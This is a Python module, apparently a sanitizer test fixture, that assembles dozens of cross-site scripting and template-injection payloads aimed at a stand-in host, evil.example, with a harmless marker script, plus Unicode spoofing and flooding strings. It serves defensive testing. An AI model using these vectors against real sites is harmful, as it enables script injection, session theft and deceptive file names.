"""Texts that would do something if a page let them: at least sixty, each with a mark of its own."""

TRAP = "https://evil.example/trap"
"""Where the texts try to go."""

CALL = "window.executed=1"
"""What the texts try to run."""

MARKUP = (
    "<script>{run}</script>",
    "<SCRIPT SRC={trap}></SCRIPT>",
    "</script><script>{run}</script>",
    "<img src=x onerror={run}>",
    '<img src="{trap}">',
    "<img/src/onerror={run}>",
    '<img srcset="{trap} 1x">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    '<svg><use href="{trap}#x"></use></svg>',
    '<svg><a xlink:href="javascript:{run}"><text y=20>x</text></a></svg>',
    '<svg><foreignObject><iframe src="javascript:{run}"></iframe></foreignObject></svg>',
    "<math><mtext></p><img src onerror={run}></mtext></math>",
    '<math href="javascript:{run}">x</math>',
    "<iframe src=javascript:{run}></iframe>",
    '<iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe>',
    '<object data="{trap}"></object>',
    '<embed src="{trap}">',
    '<link rel=stylesheet href="{trap}">',
    '<link rel=prefetch href="{trap}">',
    '<meta http-equiv=refresh content="0;url={trap}">',
    '<base href="{trap}/">',
    "<style>@import '{trap}';</style>",
    "<style>body{{background:url({trap})}}</style>",
    '<div style="background:url({trap})">x</div>',
    '<p style="position:fixed;inset:0;z-index:99">cover</p>',
    "<body onload={run}>",
    "<body background={trap}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    '<video poster="{trap}"></video>',
    '<audio src="{trap}" onerror={run}>',
    "<marquee onstart={run}>x</marquee>",
    '<a href="javascript:{run}">press</a>',
    '<a href="{trap}" ping="{trap}">press</a>',
    '<form action="{trap}"><button autofocus>x</button></form>',
    '<button formaction="javascript:{run}">x</button>',
    "<template><script>{run}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
    "<xmp><img src=x onerror={run}></xmp>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><script>{run}</script>]]>",
    "<dialog open onclose={run}>x</dialog>",
    "<portal src={trap}></portal>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    '"><script>{run}</script>',
    "' onmouseover='{run}' x='",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}",
    "![picture]({trap}.png)",
    "[press](javascript:{run})",
    "[press]({trap})",
    "<{trap}>",
    "![x][y]\n\n[y]: {trap}",
    '[x](# "onclick={run}")',
    "`<img src=x onerror={run}>`",
    "| a |\n|---|\n| <img src=x onerror={run}> |",
)

SIGNS = (
    "safe\u202egpj.exe",
    "\u2066\u2067\u2068isolated\u2069",
    "a\u200b\u200b\u200bb\u200dc\u2060d\ufeffe",
    "\u0000\u0001\u0007\u001b[31mred\u001b[0m",
    "Z\u0351\u036b\u0343\u036a" * 30,
    "\U000e0041\U000e0042 tags",
    "\ud800 half a character",
    "x" * 200_000,
    "\u200b\u202e" * 2_000,
    "\n" * 3_000 + "end",
    "\u2028line\u2029paragraph",
    "",
    "   \n\t ",
)
"""No markup, but they hide, reorder or flood."""


def payloads() -> list[str]:
    """Return all texts."""
    markup = [text.format(run=CALL, trap=TRAP) for text in MARKUP]
    assert len(set(markup)) >= 60
    return [*markup, *SIGNS]
